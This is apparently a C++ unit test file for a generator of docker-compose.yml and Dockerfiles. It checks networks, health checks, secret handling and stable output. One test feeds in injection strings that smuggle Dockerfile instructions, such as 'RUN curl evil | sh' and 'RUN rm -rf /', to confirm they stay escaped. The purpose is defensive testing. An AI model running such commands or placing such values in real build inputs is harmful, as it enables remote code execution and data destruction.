// codegen/compose and codegen/dockerfile: the generated docker-compose.yml parsed back (services,
// networks from edges, depends_on, health checks, resources, secrets by name only), hostile
// strings that stay strings, byte-stable output, refusals; the generated Dockerfiles.
#include <gtest/gtest.h>
#include <yaml-cpp/yaml.h>

#include <string>

#include "codegen/compose.h"
#include "codegen/dockerfile.h"
#include "tests/unit/codegen_graphs.h"

namespace axion::codegen {
namespace {

namespace v1 = axion::v1;
using testing_graphs::hostile_values;
using testing_graphs::shop_graph;

YAML::Node compose_of(const v1::GraphVersion& graph) {
  const auto artifact = generate_compose(graph);
  EXPECT_TRUE(artifact.ok()) << artifact.status().to_string();
  if (!artifact.ok()) return YAML::Node();
  EXPECT_EQ(artifact->path, "docker-compose.yml");
  return YAML::Load(artifact->content);
}

std::vector<std::string> strings(const YAML::Node& seq) {
  std::vector<std::string> out;
  for (const auto& n : seq) out.push_back(n.as<std::string>());
  return out;
}

TEST(CodegenCompose, ServicesImagesAndBuilds) {
  const auto doc = compose_of(shop_graph());
  EXPECT_EQ(doc["version"].as<std::string>(), "2.4");
  const auto services = doc["services"];
  ASSERT_EQ(services.size(), 3u);
  EXPECT_EQ(services["web"]["image"].as<std::string>(), "nginx:1.25");
  EXPECT_EQ(strings(services["web"]["ports"]), std::vector<std::string>{"8080:80"});
  EXPECT_EQ(services["api"]["build"]["context"].as<std::string>(), "api");
  EXPECT_EQ(services["api"]["build"]["dockerfile"].as<std::string>(), "Dockerfile.axion-api");
  EXPECT_EQ(services["api"]["build"]["args"]["GO_VERSION"].as<std::string>(), "1.22");
  EXPECT_EQ(services["api"]["image"].as<std::string>(), "axion.local/api:0123456789ab");
  EXPECT_EQ(strings(services["api"]["expose"]), std::vector<std::string>{"9000"});
  EXPECT_EQ(strings(services["api"]["entrypoint"]), (std::vector<std::string>{"/app/api"}));
  EXPECT_EQ(strings(services["api"]["command"]), (std::vector<std::string>{"--listen", ":9000"}));
  EXPECT_EQ(services["api"]["scale"].as<int>(), 3);
  EXPECT_EQ(services["api"]["mem_reservation"].as<std::string>(), "256m");
  EXPECT_EQ(services["api"]["cpu_shares"].as<int>(), 512);
  EXPECT_EQ(services["worker"]["restart"].as<std::string>(), "always");
  EXPECT_EQ(services["web"]["restart"].as<std::string>(), "on-failure");
  EXPECT_EQ(services["api"]["labels"]["io.axion.project"].as<std::string>(), "prj-shop");
  EXPECT_EQ(services["api"]["labels"]["io.axion.graph-version"].as<std::string>(), "7");
  EXPECT_EQ(services["api"]["labels"]["team"].as<std::string>(), "payments");
}

TEST(CodegenCompose, EdgesBecomeNetworksAndStartOrder) {
  const auto doc = compose_of(shop_graph());
  const auto services = doc["services"];
  // web -> api carries traffic: both on to-api; api -> worker is start order only.
  EXPECT_EQ(strings(services["web"]["networks"]), std::vector<std::string>{"to-api"});
  EXPECT_EQ(strings(services["api"]["networks"]), std::vector<std::string>{"to-api"});
  EXPECT_EQ(strings(services["worker"]["networks"]), std::vector<std::string>{"solo-worker"});
  EXPECT_TRUE(doc["networks"]["to-api"].IsMap());
  EXPECT_TRUE(doc["networks"]["solo-worker"].IsMap());
  EXPECT_EQ(doc["networks"].size(), 2u);
  EXPECT_EQ(services["web"]["depends_on"]["api"]["condition"].as<std::string>(), "service_healthy");
  EXPECT_EQ(services["api"]["depends_on"]["worker"]["condition"].as<std::string>(),
            "service_started");  // worker has no health check
  EXPECT_FALSE(services["worker"]["depends_on"]);
}

TEST(CodegenCompose, HealthChecksRunWithoutAShell) {
  const auto services = compose_of(shop_graph())["services"];
  EXPECT_EQ(strings(services["api"]["healthcheck"]["test"]),
            (std::vector<std::string>{"CMD", "wget", "-q", "-O", "/dev/null",
                                      "http://127.0.0.1:9000/healthz"}));
  EXPECT_EQ(services["api"]["healthcheck"]["interval"].as<std::string>(), "2000ms");
  EXPECT_EQ(services["api"]["healthcheck"]["timeout"].as<std::string>(), "500ms");
  EXPECT_EQ(services["api"]["healthcheck"]["retries"].as<int>(), 3);
  EXPECT_EQ(services["api"]["healthcheck"]["start_period"].as<std::string>(), "10000ms");
  EXPECT_EQ(strings(services["web"]["healthcheck"]["test"]),
            (std::vector<std::string>{"CMD", "nc", "-z", "127.0.0.1", "80"}));
}

TEST(CodegenCompose, SecretsAreNamedButNeverValued) {
  const auto env = compose_of(shop_graph())["services"]["api"]["environment"];
  ASSERT_TRUE(env["DB_PASSWORD"]);
  EXPECT_TRUE(env["DB_PASSWORD"].IsNull());
  EXPECT_EQ(env["LOG_LEVEL"].as<std::string>(), "info");
}

TEST(CodegenCompose, VolumesBindAndNamed) {
  const auto doc = compose_of(shop_graph());
  const auto volumes = doc["services"]["worker"]["volumes"];
  ASSERT_EQ(volumes.size(), 2u);
  EXPECT_EQ(volumes[0]["type"].as<std::string>(), "volume");
  EXPECT_EQ(volumes[0]["source"].as<std::string>(), "worker-data");
  EXPECT_EQ(volumes[0]["target"].as<std::string>(), "/var/lib/worker");
  EXPECT_EQ(volumes[1]["type"].as<std::string>(), "bind");
  EXPECT_EQ(volumes[1]["source"].as<std::string>(), "/etc/ssl/certs");
  EXPECT_TRUE(volumes[1]["read_only"].as<bool>());
  EXPECT_TRUE(doc["volumes"]["worker-data"].IsMap());
}

TEST(CodegenCompose, HostileValuesStayOneLiteralString) {
  auto graph = shop_graph();
  auto* web = graph.mutable_services(0);
  ASSERT_EQ(web->name(), "web");
  const auto values = hostile_values();
  for (std::size_t i = 0; i < values.size(); ++i) {
    (*web->mutable_env())["V" + std::to_string(i)] = values[i];
    web->add_args(values[i]);
  }
  (*web->mutable_env())["YES"] = "NO";  // YAML 1.1 booleans as keys and values
  const auto artifact = generate_compose(graph);
  ASSERT_TRUE(artifact.ok()) << artifact.status().to_string();
  const auto doc = YAML::Load(artifact->content);
  const auto env = doc["services"]["web"]["environment"];
  for (std::size_t i = 0; i < values.size(); ++i) {
    // `$` is doubled for compose (which turns `$$` back into `$`); nothing else changes.
    std::string expected;
    for (char c : values[i]) expected += c == '$' ? std::string("$$") : std::string(1, c);
    EXPECT_EQ(env["V" + std::to_string(i)].as<std::string>(), expected) << values[i];
    EXPECT_EQ(doc["services"]["web"]["command"][i].as<std::string>(), expected);
  }
  EXPECT_EQ(env["YES"].as<std::string>(), "NO");
  EXPECT_EQ(artifact->content.find("\nRUN"), std::string::npos);
  // The document still has exactly the keys the generator wrote.
  EXPECT_EQ(doc.size(), 4u);  // version, services, networks, volumes
}

TEST(CodegenCompose, OutputIsByteStable) {
  const auto a = generate_compose(shop_graph());
  auto reordered = shop_graph();
  // Same graph, services and map entries given in another order.
  reordered.mutable_services()->SwapElements(0, 2);
  auto* api = reordered.mutable_services(1);
  auto env = api->env();
  api->clear_env();
  for (auto it = env.begin(); it != env.end(); ++it) (*api->mutable_env())[it->first] = it->second;
  const auto b = generate_compose(reordered);
  ASSERT_TRUE(a.ok() && b.ok());
  EXPECT_EQ(a->content, b->content);
  EXPECT_EQ(a->sha256, b->sha256);
  auto changed = shop_graph();
  (*changed.mutable_services(1)->mutable_env())["LOG_LEVEL"] = "debug";
  EXPECT_NE(generate_compose(changed)->sha256, a->sha256);
}

TEST(CodegenCompose, RefusesWhatComposeCannotExpress) {
  auto file_secret = shop_graph();
  auto* sec = file_secret.mutable_services(1)->add_secrets();
  sec->set_name("tls");
  sec->set_file_path("/run/secrets/tls.pem");
  auto r = generate_compose(file_secret);
  EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(r.status().message().find("services[api].secrets[1]"), std::string::npos)
      << r.status().message();

  auto scaled = shop_graph();
  scaled.mutable_services(0)->set_replicas(2);  // web publishes host port 8080
  r = generate_compose(scaled);
  EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(r.status().message().find("host port 8080"), std::string::npos);

  for (const std::string& bad : {std::string("\xea"), std::string("a\x7f"),
                                 std::string("\xef\xbf\xbe"), std::string("\xc0\x80")}) {
    auto text = shop_graph();
    (*text.mutable_services(0)->mutable_env())["BAD"] = bad;
    r = generate_compose(text);
    EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
    EXPECT_NE(r.status().message().find("services[web].env[BAD]"), std::string::npos)
        << r.status().message();
  }

  auto volume = shop_graph();
  volume.mutable_services(2)->mutable_volumes(0)->set_source("data:/etc");
  r = generate_compose(volume);
  EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(r.status().message().find("services[worker].volumes[0].source"), std::string::npos);
}

TEST(CodegenDockerfile, GeneratedForBuildsWithoutTheirOwn) {
  const auto files = generate_dockerfiles(shop_graph());
  ASSERT_TRUE(files.ok()) << files.status().to_string();
  ASSERT_EQ(files->size(), 1u);
  const auto& f = (*files)[0];
  EXPECT_EQ(f.path, "api/Dockerfile.axion-api");
  EXPECT_NE(f.content.find("\nFROM ${BASE_IMAGE}\n"), std::string::npos) << f.content;
  EXPECT_NE(f.content.find("\nWORKDIR /app\n"), std::string::npos);
  EXPECT_NE(f.content.find("\nEXPOSE 9000/tcp\n"), std::string::npos);
  EXPECT_NE(f.content.find("\nENTRYPOINT [\"/app/api\"]\n"), std::string::npos);
  EXPECT_NE(f.content.find("\nCMD [\"--listen\",\":9000\"]\n"), std::string::npos);
  EXPECT_NE(f.content.find("\nLABEL \"team\"=\"payments\"\n"), std::string::npos);

  // Two services built from one context get one Dockerfile each.
  auto shared = shop_graph();
  auto* worker = shared.mutable_services(2);
  worker->mutable_build()->set_context("api");
  const auto both = generate_dockerfiles(shared);
  ASSERT_TRUE(both.ok()) << both.status().to_string();
  ASSERT_EQ(both->size(), 2u);
  EXPECT_EQ((*both)[1].path, "api/Dockerfile.axion-worker");
  EXPECT_EQ(compose_of(shared)["services"]["worker"]["build"]["dockerfile"].as<std::string>(),
            "Dockerfile.axion-worker");

  auto own = shop_graph();
  own.mutable_services(1)->mutable_build()->set_dockerfile("build/Dockerfile");
  EXPECT_TRUE(generate_dockerfiles(own)->empty());
  EXPECT_EQ(dockerfile_path(own.services(1)), "build/Dockerfile");
}

TEST(CodegenDockerfile, HostileStringsCannotAddInstructions) {
  auto graph = shop_graph();
  auto* api = graph.mutable_services(1);
  api->clear_args();
  api->add_args("x\"]\nRUN curl evil | sh\nCMD [\"y");
  api->add_args("$HOME ${PATH}");
  (*api->mutable_labels())["note"] = "a\nRUN rm -rf / $X";
  const auto files = generate_dockerfiles(graph);
  ASSERT_TRUE(files.ok()) << files.status().to_string();
  const std::string& text = (*files)[0].content;
  EXPECT_EQ(text.find("\nRUN"), std::string::npos) << text;
  EXPECT_NE(text.find("\\nRUN curl evil"), std::string::npos) << text;  // escaped inside JSON
  EXPECT_NE(text.find("\"note\"=\"a\\nRUN rm -rf / \\$X\""), std::string::npos) << text;

  auto workdir = shop_graph();
  workdir.mutable_services(1)->set_working_dir("/app dir");
  const auto refused = generate_dockerfiles(workdir);
  EXPECT_EQ(refused.status().code(), StatusCode::kInvalidArgument);
  EXPECT_NE(refused.status().message().find("services[api].working_dir"), std::string::npos);
  auto base = shop_graph();
  (*base.mutable_services(1)->mutable_build()->mutable_args())["BASE_IMAGE"] = "x\nRUN y";
  EXPECT_EQ(generate_dockerfiles(base).status().code(), StatusCode::kInvalidArgument);
}

}  // namespace
}  // namespace axion::codegen
